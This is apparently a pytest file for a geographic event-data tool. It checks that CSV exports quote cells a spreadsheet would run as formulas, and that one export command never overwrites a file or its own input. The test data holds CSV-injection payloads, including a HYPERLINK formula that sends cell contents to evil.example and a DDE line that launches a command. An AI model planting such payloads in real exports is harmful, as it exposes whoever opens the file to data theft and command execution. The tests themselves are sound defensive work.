"""CSV exports no spreadsheet runs as formulas, in every flavour and every path (the page's
downloads, `export-acled`, `export --format acled|csv`); `export-acled` never overwrites a file
without --force, nor ever its own input."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

import geo.cli as cli
from geo.export import FORMULA_START, events_yaml_text, spreadsheet_cell
from geo.io.importer import import_file
from geo.web import downloads
from geo.web.downloads import Spool
from tests.conftest import ROOT, SHIPPED_EVENTS

APP = str(ROOT / "app.py")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
# An ACLED export as someone hostile could hand it over: formulas in cells and in a header name,
# cells starting with a tab or a carriage return; real negative coordinates beside them.
ACLED = (
    "event_id_cnty,event_date,event_type,sub_event_type,actor1,actor2,admin1,location,"
    "latitude,longitude,geo_precision,time_precision,source,notes,fatalities,iso,country,"
    '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n'
    'ZAF1,2023-03-01,Protests,Peaceful protest,"=HYPERLINK(""http://evil.example/?""&A1,'
    '""click"")","+cmd|\' /C calc\'!A0",Western Cape,Cape Town,-33.9249,18.4241,1,1,'
    "@SUM(1+1),-2+3 people protested,0,710,South Africa,=1+1\n"
    'ARG1,2023-03-02,Riots,Violent demonstration,"\tTabbed actor","\rCarriage actor",'
    'Buenos Aires,Buenos Aires,-34.6037,-58.3816,1,1,News,"Looting\r=2+5",2,32,Argentina,@x\n'
)
PAYLOADS = (
    HYPERLINK,
    DDE,
    "@SUM(1+1)",
    "-2+3 people protested",
    "\tTabbed actor",
    "\rCarriage actor",
)


def read(path: Path) -> str:
    """A CSV file's text as written: a carriage return inside a cell stays one."""
    with path.open(encoding="utf-8", newline="") as stream:
        return stream.read()


def run(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cli.main(list(args), out, err)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("+5", "'+5"),  # a number a spreadsheet would compute, but spelled as a formula
        ("-1e-5+A1", "'-1e-5+A1"),
        ("-33.9", "-33.9"),  # plain numbers stay numbers
        ("-2", "-2"),
        ("-0.5e3", "-0.5e3"),
        ("-.5", "-.5"),
        (-58.3816, "-58.3816"),
        ("Kharkiv", "Kharkiv"),
        ("'=already quoted", "'=already quoted"),
        (None, ""),
    ],
)
def test_a_cell_that_would_be_a_formula_is_quoted_unless_it_is_a_plain_number(cell, written):
    assert spreadsheet_cell(cell) == written


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The hostile ACLED rows imported, as an events file (their rows kept in `origin`)."""
    source = tmp_path / "hostile-acled.csv"
    source.write_text(ACLED, encoding="utf-8")
    result = import_file(source)
    assert [e.id for e in result.events] == ["ZAF1", "ARG1"], result.summary()
    path = tmp_path / "hostile.yaml"
    path.write_text(events_yaml_text(result.events, "hostile"), encoding="utf-8")
    return path


def assert_safe(text: str) -> list[list[str]]:
    """Every cell (header included) either does not start like a formula or is a plain number."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or spreadsheet_cell(cell) == cell, cell
    flat = [cell for row in rows for cell in row]
    assert not any(cell in PAYLOADS for cell in flat)  # none came out as written
    return rows


def assert_acled_safe(text: str) -> None:
    header, *rows = assert_safe(text)
    assert header[-2:] == ["'" + HYPERLINK, "event_atlas_type"]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    cape, baires = by_id["ZAF1"], by_id["ARG1"]
    assert cape["actor1"] == "'" + HYPERLINK and cape["actor2"] == "'" + DDE
    assert cape["source"] == "'@SUM(1+1)" and cape["notes"] == "'-2+3 people protested"
    assert cape["'" + HYPERLINK] == "'=1+1"
    assert baires["actor1"] == "'\tTabbed actor" and baires["actor2"] == "'\rCarriage actor"
    # A carriage return inside a cell is quoted: no new row starts there with a formula.
    assert baires["notes"] == "Looting\r=2+5" and len(rows) == 2
    # Numbers a spreadsheet can still compute with.
    assert (cape["latitude"], cape["longitude"]) == ("-33.9249", "18.4241")
    assert (baires["latitude"], baires["longitude"], baires["fatalities"]) == (
        "-34.6037",
        "-58.3816",
        "2",
    )


def assert_csv_safe(text: str) -> None:
    header, *rows = assert_safe(text)
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert len(rows) == 2
    assert by_id["ZAF1"]["actors"].startswith("'=HYPERLINK")
    assert by_id["ARG1"]["latitude"] == "-34.6037" and by_id["ARG1"]["longitude"] == "-58.3816"


def test_export_acled_neutralises_every_formula_and_keeps_negative_numbers(hostile, tmp_path):
    target = tmp_path / "out.csv"
    code, _, err = run("export-acled", str(hostile), "--out", str(target))
    assert code == 0, err
    assert_acled_safe(read(target))
    # Our own importer undoes the quote: ACLED in, ACLED out, still round-trips.
    back = import_file(target).events
    assert [e.actors for e in back] == [[HYPERLINK, DDE], ["Tabbed actor", "Carriage actor"]]


@pytest.mark.parametrize("fmt", ["acled", "csv"])
def test_export_in_every_csv_format_neutralises_every_formula(hostile, tmp_path, fmt):
    target = tmp_path / f"out-{fmt}.csv"
    code, _, err = run("export", str(hostile), "--format", fmt, "--out", str(target))
    assert code == 0, err
    text = read(target)
    assert_acled_safe(text) if fmt == "acled" else assert_csv_safe(text)


def test_the_pages_csv_downloads_neutralise_every_formula(hostile, tmp_path, monkeypatch):
    spool = Spool(tmp_path / "spool", sweep_every_s=None)
    monkeypatch.setattr(downloads, "_SPOOL", spool)
    monkeypatch.setenv("EVENT_ATLAS_EVENTS", str(hostile))
    st.cache_data.clear()
    at = AppTest.from_file(APP, default_timeout=60).run()
    for label in ("Download ACLED CSV", "Download CSV"):
        next(b for b in at.button if b.label == label).click().run()
        assert not at.exception, at.exception
    files = {p.file_name: read(p.path) for p in spool._files.values()}
    (acled,) = [text for name, text in files.items() if name.endswith("-acled.csv")]
    (plain,) = [text for name, text in files.items() if not name.endswith("-acled.csv")]
    assert_acled_safe(acled)
    assert_csv_safe(plain)
    spool.close()


# -- export-acled and its --out ------------------------------------------------------------------
def test_export_acled_never_replaces_a_file_without_force(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("keep me", encoding="utf-8")
    code, out, err = run("export-acled", str(SHIPPED_EVENTS), "--out", str(target))
    # The same refusal, wording and status as `export` and `import` (SettingError: 1).
    assert (code, out) == (1, "")
    assert err == f"error: {target} exists: choose another --out, or add --force to replace it\n"
    assert target.read_text(encoding="utf-8") == "keep me"
    code, out, err = run("export-acled", str(SHIPPED_EVENTS), "--out", str(target), "--force")
    assert code == 0, err
    assert target.read_text(encoding="utf-8").startswith("event_id_cnty,")


@pytest.mark.parametrize("spelling", ["same", "dotted", "symlink", "hardlink"])
def test_export_acled_never_writes_over_its_own_input_even_with_force(tmp_path, spelling):
    source = tmp_path / "events.yaml"
    original = SHIPPED_EVENTS.read_text(encoding="utf-8")
    source.write_text(original, encoding="utf-8")
    target = {
        "same": source,
        "dotted": tmp_path / "sub" / ".." / "events.yaml",
        "symlink": tmp_path / "link.csv",
        "hardlink": tmp_path / "hard.csv",
    }[spelling]
    (tmp_path / "sub").mkdir()
    if spelling == "symlink":
        target.symlink_to(source)
    if spelling == "hardlink":
        os.link(source, target)
    before = sorted(tmp_path.iterdir())
    code, out, err = run("export-acled", str(source), "--out", str(target), "--force")
    assert (code, out) == (1, "")
    assert err.startswith(f"error: --out {target} is the input file: choose another --out")
    assert err.count("\n") == 1  # one line
    assert source.read_text(encoding="utf-8") == original
    assert sorted(tmp_path.iterdir()) == before  # nothing written, no temp file left
